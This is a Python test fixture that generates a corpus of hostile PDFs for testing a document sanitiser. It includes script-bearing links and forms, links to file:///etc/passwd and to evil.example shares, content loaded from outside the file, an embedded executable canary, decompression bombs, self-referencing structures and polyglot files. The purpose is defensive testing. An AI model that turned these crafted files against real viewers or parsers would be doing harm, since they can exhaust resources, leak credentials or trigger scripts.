"""PDFs that want something: programs, other files, endless work, two kinds of file in one."""

from __future__ import annotations

import zlib
from typing import TYPE_CHECKING

import pikepdf
from pikepdf import Array, Dictionary, Name

from torana.parts.documents.tests.hostile import disguises, make
from torana.parts.documents.tests.hostile.corpus import (
    ACTIVE,
    HARMLESS,
    LIES,
    LOCKED,
    PIXELS,
    UNREADABLE,
    Hostile,
)

if TYPE_CHECKING:
    from collections.abc import Callable

    Change = Callable[[pikepdf.Pdf], None]

ZEROS = zlib.compress(bytes(1_000_000), 9)


def action(**said: object) -> Change:
    """Return what puts an action behind a link on the page."""
    return lambda made: make._link(made, make._action(**said))


def link_to(uri: str) -> Change:
    """Return what puts a link to an address on the page."""
    return action(S=Name.URI, URI=uri)


def annotation(kind: pikepdf.Name, **more: object) -> Change:
    """Return what puts an annotation on the page."""

    def change(made: pikepdf.Pdf) -> None:
        note = make._action(Type=Name.Annot, Subtype=kind, Rect=Array([0, 0, 9, 9]), **more)
        made.pages[0].obj.Annots = Array([made.make_indirect(note)])

    return change


def field_with_script(made: pikepdf.Pdf) -> None:
    """Add a form whose field counts by a script."""
    counted = Dictionary(C=make._script())
    field = Dictionary(FT=Name.Tx, T="a", Kids=Array([]), AA=counted)
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]))


def chained(made: pikepdf.Pdf) -> None:
    """Add a harmless link with a script behind it."""
    here = make._action(S=Name.URI, URI="https://nyota.example", Next=Array([make._script()]))
    make._link(made, here)


def base_address(made: pikepdf.Pdf) -> None:
    """Let every link of the file begin with a script."""
    made.Root.URI = Dictionary(Base="javascript:alert(1)//")


def associated(made: pikepdf.Pdf) -> None:
    """Add a file that belongs to the page, as PDF 2.0 has it."""
    packed = made.make_stream(b"MZ Canary")
    spec = Dictionary(Type=Name.Filespec, F="canary.exe", EF=Dictionary(F=packed))
    made.Root.AF = Array([made.make_indirect(spec)])


def data_from_outside(made: pikepdf.Pdf) -> None:
    """Let the page's content lie in another file."""
    outside = made.make_stream(b"")
    outside.stream_dict.F = "\\\\evil.example\\share\\canary"
    made.pages[0].obj.Contents = outside


def form_from_outside(made: pikepdf.Pdf) -> None:
    """Draw a page of another file."""
    drawn = made.make_stream(b"")
    drawn.stream_dict.Type, drawn.stream_dict.Subtype = Name.XObject, Name.Form
    drawn.stream_dict.Ref = Dictionary(F="https://evil.example/canary.pdf", Page=0)
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=drawn))


def content_bomb(made: pikepdf.Pdf) -> None:
    """Fill the page with 250 million zeros, in a megabyte."""
    packed = zlib.compress(bytes(250_000_000), 1)
    made.pages[0].obj.Contents = pikepdf.Stream(made, packed, Filter=Name.FlateDecode)


def filters_in_filters(made: pikepdf.Pdf) -> None:
    """Pack the page's content ten times over."""
    packed = bytes(50_000_000)
    for _ in range(10):
        packed = zlib.compress(packed, 9)
    names = Array([Name.FlateDecode] * 10)
    made.pages[0].obj.Contents = pikepdf.Stream(made, packed, Filter=names)


def picture_bomb(made: pikepdf.Pdf) -> None:
    """Show a picture of ten thousand million pixels."""
    drawn = pikepdf.Stream(
        made,
        ZEROS,
        Filter=Name.FlateDecode,
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=100_000,
        Height=100_000,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
    )
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=drawn))
    made.pages[0].obj.Contents = made.make_stream(b"q 300 0 0 400 0 0 cm /A Do Q")


def deep(made: pikepdf.Pdf) -> None:
    """Nest arrays three hundred deep."""
    nested = Array([])
    for _ in range(300):
        nested = Array([nested])
    made.Root.PieceInfo = Dictionary(X=nested)


def many_objects(made: pikepdf.Pdf) -> None:
    """Hold a quarter of a million numbers."""
    made.Root.PieceInfo = Dictionary(X=Array(list(range(250_000))))


def endless_page(made: pikepdf.Pdf) -> None:
    """Draw a form that draws itself."""
    drawn = made.make_stream(b"/A Do /A Do")
    drawn.stream_dict.Type, drawn.stream_dict.Subtype = Name.XObject, Name.Form
    drawn.stream_dict.BBox = Array([0, 0, 9, 9])
    drawn.stream_dict.Resources = Dictionary(XObject=Dictionary(A=drawn))
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(A=drawn))
    made.pages[0].obj.Contents = made.make_stream(b"/A Do")


def huge_sheet(made: pikepdf.Pdf) -> None:
    """Make the sheet as large as a town."""
    made.pages[0].obj.MediaBox = Array([0, 0, 10**9, 10**9])


def raw(*objects: bytes, root: int = 1, first: bytes = b"%PDF-1.7\n", size: int = 0) -> bytes:
    """Return a PDF written by hand, whose table of places fits its objects."""
    out, places = first, []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    count = size or len(objects) + 1
    return out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        count,
        root,
        table,
    )


CATALOG, PAGE = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
TREE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
SOUND = (CATALOG, TREE, PAGE)


def circle() -> bytes:
    """Return a PDF whose pages are their own grandparents."""
    return raw(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")


def wrong_places() -> bytes:
    """Return a PDF whose table of places leads nowhere."""
    return raw(*SOUND).replace(b"0000000009", b"0000009999")


def circle_of_tables() -> bytes:
    """Return a PDF whose last table says that it comes before itself."""
    whole = raw(*SOUND)
    at = whole.index(b"xref\n0")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def length_in_a_circle() -> bytes:
    """Return a PDF with a stream whose length is said by itself."""
    shown = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
    return raw(CATALOG, TREE, shown, b"<</Length 4 0 R>>\nstream\nx\nendstream")


def packed_objects_bomb() -> bytes:
    """Return a PDF whose packed objects unpack to 250 MB."""
    packed = zlib.compress(bytes(250_000_000), 1)
    head = b"<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>" % len(packed)
    bomb = head + b"\nstream\n" + packed + b"\nendstream"
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate((*SOUND, bomb), 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 4, 0), (1, at, 0)]
    table = b"".join(b"%c%s%c" % (k, p.to_bytes(4), g) for k, p, g in rows)
    said = b"<</Type/XRef/Size 7/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    out += b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (said, table)
    return out + b"startxref\n%d\n%%%%EOF\n" % at


def tar_and_pdf() -> bytes:
    """Return a PDF that is a tar archive as well."""
    block = bytearray(b"%PDF-1.7\n%".ljust(512, b"\0"))
    block[257:262] = b"ustar"
    return raw(*SOUND, first=bytes(block) + b"\n")


def changed(change: Change) -> Callable[[], bytes]:
    """Return what makes a PDF with this change."""
    return lambda: make.pdf(change)


def as_packed(change: Change) -> Callable[[], bytes]:
    """Return what makes a PDF with this change, its streams packed as they came."""
    return lambda: make.pdf(
        change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False
    )


def comment(text: bytes) -> Callable[[], bytes]:
    """Return what makes a sound PDF with a comment at its beginning."""
    return lambda: raw(*SOUND, first=b"%PDF-1.7\n%" + text + b"\n")


FILES = (
    Hostile("counts-by-script.pdf", changed(field_with_script), ACTIVE),
    Hostile("script-behind-a-harmless-link.pdf", changed(chained), ACTIVE),
    Hostile("link-that-is-a-script.pdf", changed(link_to("javascript:alert(1)")), ACTIVE),
    Hostile("link-to-a-file.pdf", changed(link_to("file:///etc/passwd")), ACTIVE),
    Hostile("link-to-a-share.pdf", changed(link_to("\\\\evil.example\\c")), ACTIVE),
    Hostile("link-that-is-a-page.pdf", changed(link_to(" DATA:text/html,<b>")), ACTIVE),
    Hostile("links-begin-with-a-script.pdf", changed(base_address), ACTIVE),
    Hostile("fetches-data.pdf", changed(action(S=Name.ImportData, F="a.fdf")), ACTIVE),
    Hostile("goes-to-a-file.pdf", changed(action(S=Name.GoToR, F="a.pdf")), ACTIVE),
    Hostile("goes-into-a-file.pdf", changed(action(S=Name.GoToE, T="a")), ACTIVE),
    Hostile("plays.pdf", changed(action(S=Name.Rendition, OP=0)), ACTIVE),
    Hostile("model.pdf", changed(annotation(Name("/3D"))), ACTIVE),
    Hostile("pinned-file.pdf", changed(annotation(Name.FileAttachment, FS="a")), ACTIVE),
    Hostile("old-film.pdf", changed(annotation(Name.Movie)), ACTIVE),
    Hostile("file-of-the-page.pdf", changed(associated), ACTIVE),
    Hostile("content-from-outside.pdf", changed(data_from_outside), ACTIVE),
    Hostile("form-from-outside.pdf", changed(form_from_outside), ACTIVE),
    Hostile("content-bomb.pdf", as_packed(content_bomb), UNREADABLE),
    Hostile("filters-in-filters.pdf", as_packed(filters_in_filters), UNREADABLE),
    Hostile("picture-bomb.pdf", as_packed(picture_bomb), PIXELS),
    Hostile("packed-objects-bomb.pdf", packed_objects_bomb, UNREADABLE),
    Hostile("deep.pdf", changed(deep), UNREADABLE),
    Hostile("many-objects.pdf", changed(many_objects), UNREADABLE),
    Hostile("circle-of-pages.pdf", circle, UNREADABLE),
    Hostile("circle-of-tables.pdf", circle_of_tables, UNREADABLE),
    Hostile("wrong-places.pdf", wrong_places, UNREADABLE),
    Hostile("length-in-a-circle.pdf", length_in_a_circle, HARMLESS, ()),
    Hostile("no-pages.pdf", lambda: raw(CATALOG, b"<</Type/Pages/Kids[]/Count 0>>"), UNREADABLE),
    Hostile("no-catalogue.pdf", lambda: raw(*SOUND, root=9), UNREADABLE),
    Hostile("only-a-name.pdf", lambda: b"%PDF-1.7\n%%EOF", UNREADABLE),
    Hostile("locked-with-no-word.pdf", lambda: make.pdf(encryption=make.HALF_LOCK), LOCKED),
    Hostile("pdf-and-page.pdf", comment(disguises.HTML), ACTIVE),
    Hostile("pdf-and-script-tag.pdf", comment(b"<SCRIPT src=//evil.example>"), ACTIVE),
    Hostile("pdf-and-phar.pdf", comment(b"<?php __HALT_COMPILER(); ?>"), ACTIVE),
    Hostile("pdf-and-rar.pdf", comment(b"Rar!\x1a\x07\0"), ACTIVE),
    Hostile("pdf-and-seven.pdf", comment(b"7z\xbc\xaf\x27\x1c"), ACTIVE),
    Hostile("pdf-and-tar.pdf", tar_and_pdf, ACTIVE),
    Hostile("pdf-and-scanner-test.pdf", comment(disguises.EICAR), ACTIVE),
    Hostile("pdf-and-more-after-the-end.pdf", lambda: make.pdf() + disguises.HTML, UNREADABLE),
    Hostile("named-as-a-photo.jpg", make.pdf, LIES),
    Hostile("huge-sheet.pdf", changed(huge_sheet), HARMLESS, ()),
    Hostile("draws-itself.pdf", changed(endless_page), UNREADABLE),
    Hostile("plain-link.pdf", changed(link_to("https://nyota.example")), HARMLESS, ()),
)
